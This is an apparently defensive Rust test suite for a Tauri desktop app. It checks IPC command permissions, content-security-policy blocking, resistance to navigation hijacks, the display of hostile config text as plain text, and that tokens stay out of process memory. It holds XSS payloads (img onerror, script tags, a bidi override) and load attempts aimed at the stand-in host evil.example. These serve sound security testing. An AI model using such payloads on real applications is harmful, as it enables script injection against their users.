//! What the page cannot do, and what it never holds: looked for from inside the real window, and in the memory of its process.

use std::time::Duration;

use anyhow::{Context, Result, ensure};
use serde_json::{Value, json};
use testbed::{DEADLINE, eventually, memory_holds as holds};

use crate::journey::{Journey, by, server};

/// Gives a command as the page's own code would; the answer, or the refusal.
async fn invoke(journey: &Journey, command: &str, arguments: Value) -> Result<Value> {
    let script = "const [command, args, done] = arguments;
        window.__TAURI_INTERNALS__.invoke(command, args).then((is) => done({ is }), (refused) => done({ refused: String(refused.message ?? refused) }))";
    let arguments = vec![json!(command), arguments];
    Ok(journey.browser.client().execute_async(script, arguments).await?)
}

#[tokio::test(flavor = "multi_thread")]
async fn the_page_cannot_call_what_it_was_not_given_nor_go_anywhere_else() -> Result<()> {
    let journey = Journey::begin().await?;
    journey.browser.find(&by("first-run")).await?;
    let known = invoke(&journey, "snapshot", json!({})).await?;
    ensure!(known["is"]["servers"] == json!([]), "the door itself is shut: {known}");
    for command in [
        "plugin:clipboard-manager|read_text",
        "plugin:opener|open_path",
        "plugin:opener|open_url",
        "plugin:autostart|enable",
        "plugin:window|set_title",
        "plugin:webview|create_webview_window",
        "plugin:event|emit",
        "plugin:path|resolve_directory",
        "plugin:app|version",
        "plugin:menu|new",
        "plugin:tray|new",
        "plugin:resources|close",
        "no_such_command",
    ] {
        let answer = invoke(
            &journey,
            command,
            json!({ "path": "/", "url": "https://a.example", "event": "x", "payload": 1 }),
        )
        .await?;
        ensure!(answer["refused"].is_string(), "{command} was allowed: {answer}");
    }
    // Neither a script of another place, nor a picture, nor a request, nor a frame, nor another page.
    let script = "const done = arguments[0]; const stopped = [];
        document.addEventListener('securitypolicyviolation', (event) => stopped.push(event.effectiveDirective));
        const add = (tag, set) => document.body.append(Object.assign(document.createElement(tag), set));
        add('script', { src: 'https://evil.example/x.js' });
        add('script', { textContent: 'window.owned = true' });
        add('img', { src: 'https://evil.example/x.png' });
        add('iframe', { src: 'https://evil.example/' });
        const style = document.createElement('style'); style.textContent = 'body { color: red }'; document.body.append(style);
        fetch('https://evil.example/').catch(() => {});
        setTimeout(() => done({ stopped, owned: window.owned ?? false, href: location.href }), 500)";
    let tried = journey.browser.client().execute_async(script, Vec::new()).await?;
    for directive in [
        "script-src-elem",
        "img-src",
        "frame-src",
        "style-src-elem",
        "connect-src",
    ] {
        let stopped = tried["stopped"].as_array().context("no list")?;
        ensure!(
            stopped.contains(&json!(directive)),
            "{directive} let it through: {tried}"
        );
    }
    ensure!(tried["owned"] == false, "a script in the page ran: {tried}");
    let before = journey.browser.execute("return location.href").await?;
    journey
        .browser
        .execute("location.href = 'https://evil.example/'")
        .await?;
    journey.browser.find(&by("first-run")).await?;
    ensure!(
        journey.browser.execute("return location.href").await? == before,
        "the window went elsewhere"
    );
    journey.browser.close().await
}

#[tokio::test(flavor = "multi_thread")]
async fn what_others_wrote_is_text_in_the_real_window() -> Result<()> {
    let journey = Journey::begin().await?;
    journey.browser.find(&by("first-run")).await?;
    journey
        .browser
        .execute("window.stopped = 0; document.addEventListener('securitypolicyviolation', () => window.stopped += 1)")
        .await?;
    let hostile = "<img src=x onerror='window.owned=1'><script>window.owned=1</script>\u{202e}gnp\u{7}";
    let config = json!({ "version": "1.0.0", "activeServerId": "a", "servers": { "a": {
        "id": "a", "name": hostile, "url": format!("https://a.example/{hostile}"), "domainId": hostile,
        "auth": { "accessToken": format!("e30.{}.x", "eyJ4IjoiPGltZyBzcmM9eD4ifQ"), "refreshToken": "", "expiresAt": 4_000_000_000_000_u64, "userId": hostile, "email": hostile }
    } } });
    std::fs::create_dir_all(journey.desktop.config_dir())?;
    std::fs::write(journey.config_path(), config.to_string())?;
    journey.browser.find(&by("server-item")).await?;
    for tab in ["tab-claims", "tab-timeline"] {
        journey.browser.click(&by(tab)).await?;
    }
    journey.browser.click(&by("open-switcher")).await?;
    journey.browser.find(&by("switcher-input")).await?;
    let seen = journey
        .browser
        .execute("return { owned: window.owned ?? null, stopped: window.stopped, images: document.querySelectorAll('img, #app script').length, name: document.querySelector('h1').textContent }")
        .await?;
    ensure!(
        seen["owned"].is_null() && seen["stopped"] == 0 && seen["images"] == 0,
        "{seen}"
    );
    let name = seen["name"].as_str().context("no name")?;
    ensure!(
        name.contains("<img src=x") && !name.contains(['\u{202e}', '\u{7}']),
        "{name:?}"
    );
    journey.browser.close().await
}

#[tokio::test(flavor = "multi_thread")]
async fn no_token_is_in_the_memory_of_the_page_until_it_is_revealed() -> Result<()> {
    let server = server(Duration::from_secs(600)).await?;
    let journey = Journey::begin().await?;
    journey.add_server("Prod", &server.url()).await?;
    journey.sign_in(&server, "ada@example.com").await?;
    let config = journey
        .wait_for_config("a session", |config| {
            config["servers"]["prod"]["auth"]["accessToken"].is_string()
        })
        .await?;
    let access = config["servers"]["prod"]["auth"]["accessToken"]
        .as_str()
        .context("no token")?
        .to_owned();
    let refresh = String::from_utf8(journey.kept().await?.remove(0).secret)?;
    // Everything but "Reveal" that has to do with a token.
    journey.browser.click(&by("tab-claims")).await?;
    journey.browser.find(&by("claims")).await?;
    journey.browser.click(&by("change-sharing")).await?;
    journey.browser.find(&by("sharing-preview")).await?;
    journey.browser.click(&by("copy-token")).await?;
    let page = web_process(&journey).await?;
    // Read now: what proves that the search works has to be in that memory.
    ensure!(holds(page, "ada@example.com")?, "the search finds nothing at all");
    for (what, secret) in [("access", &access), ("refresh", &refresh)] {
        ensure!(!holds(page, tail(secret))?, "the {what} token is in the page's memory");
    }

    journey.browser.click(&by("reveal-token")).await?;
    let shown = journey.browser.text(&by("token-text")).await?;
    ensure!(shown == access, "another token is shown");
    ensure!(holds(page, tail(&access))?, "the search does not find what is there");
    ensure!(
        !holds(page, tail(&refresh))?,
        "the refresh token is in the page's memory"
    );

    // Hidden again it is in no element, nor in anything that the page's own code could still reach.
    journey.browser.click(&by("reveal-token")).await?;
    journey.browser.wait_until_gone(&by("token-text")).await?;
    let left = journey
        .browser
        .execute("return document.documentElement.outerHTML")
        .await?;
    ensure!(
        !left.as_str().unwrap_or_default().contains(tail(&access)),
        "it stands in the page still"
    );
    // The window's process and all its memory go with the window.
    journey.desktop.close_windows().await?;
    eventually("the page's process to end", DEADLINE, async || {
        ensure!(!std::path::Path::new(&format!("/proc/{page}")).exists());
        Ok(())
    })
    .await
}

/// The end of a token's signature: no part of any other.
fn tail(token: &str) -> &str {
    &token[token.len() - 40..]
}

/// The process that the page of this desktop runs in.
async fn web_process(journey: &Journey) -> Result<u32> {
    let bus = journey.desktop.environment().variables()["DBUS_SESSION_BUS_ADDRESS"].clone();
    eventually("the page's process", DEADLINE, async || {
        let found = std::fs::read_dir("/proc")?.flatten().find_map(|entry| {
            let pid: u32 = entry.file_name().to_str()?.parse().ok()?;
            let read = |name: &str| std::fs::read(entry.path().join(name)).ok();
            let is_page = read("comm")?.starts_with(b"WebKitWebProces");
            let is_here = String::from_utf8_lossy(&read("environ")?).contains(&bus);
            (is_page && is_here).then_some(pid)
        });
        found.context("none yet")
    })
    .await
}
